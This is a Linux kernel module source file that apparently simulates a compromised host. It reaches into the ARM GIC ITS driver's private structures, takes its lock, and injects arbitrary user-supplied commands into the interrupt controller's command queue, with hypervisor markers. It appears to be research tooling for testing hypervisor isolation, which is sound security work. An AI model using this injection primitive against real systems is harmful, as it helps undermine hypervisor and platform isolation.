// SPDX-License-Identifier: GPL-2.0
/*
 * The command queue of the driver of the ITS, in the hands of a compromised host.
 * The driver's own lock and position are used, so that it works on afterwards.
 */

#include <linux/delay.h>
#include <linux/io.h>
#include <linux/irqchip/arm-gic-v3.h>
#include <linux/list.h>
#include <linux/mutex.h>
#include <linux/slab.h>
#include <linux/spinlock.h>
#include <linux/uaccess.h>

#include <asm/barrier.h>

#include "its_attack.h"
#include "module.h"

#define QUEUE_SIZE	SZ_64K
#define SLOT_SIZE	32
#define NR_SLOTS	(QUEUE_SIZE / SLOT_SIZE)

/* The first fields of the structure of that name, see irq-gic-v3-its.c. */
struct its_node {
	raw_spinlock_t		lock;
	struct mutex		dev_alloc_lock;
	struct list_head	entry;
	void __iomem		*base;
	void __iomem		*sgir_base;
	phys_addr_t		phys_base;
	void			*cmd_base;
	void			*cmd_write;
};

/* The first ITS; nodes are never freed. The linear map does not have the variable. */
static struct its_node *find_its(u64 its_nodes)
{
	struct list_head *head = (void *)__phys_to_kimg(its_nodes);

	return list_first_entry(head, struct its_node, entry);
}

long do_queue(struct attack_queue *arg)
{
	struct its_node *its = find_its(arg->its_nodes);

	arg->base = its->phys_base;
	arg->queue = virt_to_phys(its->cmd_base);
	arg->size = QUEUE_SIZE;
	arg->write = its->cmd_write - its->cmd_base;

	return 0;
}

static void put_slot(struct its_node *its, u64 offset, const u64 *command)
{
	u64 *slot = its->cmd_base + offset;

	for (int i = 0; i < SLOT_SIZE / sizeof(u64); i++)
		WRITE_ONCE(slot[i], command[i]);
}

/* The driver waits for all commands but the last, if at all. */
static u64 wait_for(struct its_node *its, u64 offset)
{
	u64 creadr = readq_relaxed(its->base + GITS_CREADR);

	for (int i = 0; i < 10000 && (creadr & ~1UL) != offset; i++) {
		udelay(1);
		creadr = readq_relaxed(its->base + GITS_CREADR);
	}

	return creadr;
}

long do_commands(struct attack_commands *arg)
{
	struct its_node *its = find_its(arg->its_nodes);
	u64 *commands = NULL, offset;
	unsigned long flags;

	if (arg->nr >= NR_SLOTS)
		return -EINVAL;
	if (arg->commands) {
		commands = vmemdup_user(u64_to_user_ptr(arg->commands), arg->nr * SLOT_SIZE);
		if (IS_ERR(commands))
			return PTR_ERR(commands);
	}

	raw_spin_lock_irqsave(&its->lock, flags);
	offset = its->cmd_write - its->cmd_base;
	arg->first = offset;
	for (u32 i = 0; i < arg->nr; i++) {
		if (commands)
			put_slot(its, offset, commands + i * SLOT_SIZE / sizeof(u64));
		offset = (offset + SLOT_SIZE) % QUEUE_SIZE;
	}
	dsb(ishst);
	its->cmd_write = its->cmd_base + offset;
	if (arg->markers)
		hvc_marker(0);
	if (arg->wide)
		writeq_relaxed(offset, its->base + GITS_CWRITER);
	else
		writel_relaxed(offset, its->base + GITS_CWRITER);
	if (arg->markers)
		hvc_marker(1);
	arg->creadr = wait_for(its, offset);
	arg->reached = arg->creadr == offset;
	raw_spin_unlock_irqrestore(&its->lock, flags);
	kvfree(commands);

	return 0;
}

/*
 * What the driver does with the queue when the system suspends and resumes, between
 * two commands of its own.
 */
long do_restart(u64 its_nodes)
{
	struct its_node *its = find_its(its_nodes);
	unsigned long flags;
	u32 ctlr;

	raw_spin_lock_irqsave(&its->lock, flags);
	ctlr = readl_relaxed(its->base + GITS_CTLR);
	writel_relaxed(ctlr & ~GITS_CTLR_ENABLE, its->base + GITS_CTLR);
	writeq_relaxed(readq_relaxed(its->base + GITS_CBASER), its->base + GITS_CBASER);
	its->cmd_write = its->cmd_base;
	writeq_relaxed(0, its->base + GITS_CWRITER);
	writel_relaxed(ctlr, its->base + GITS_CTLR);
	raw_spin_unlock_irqrestore(&its->lock, flags);

	return 0;
}
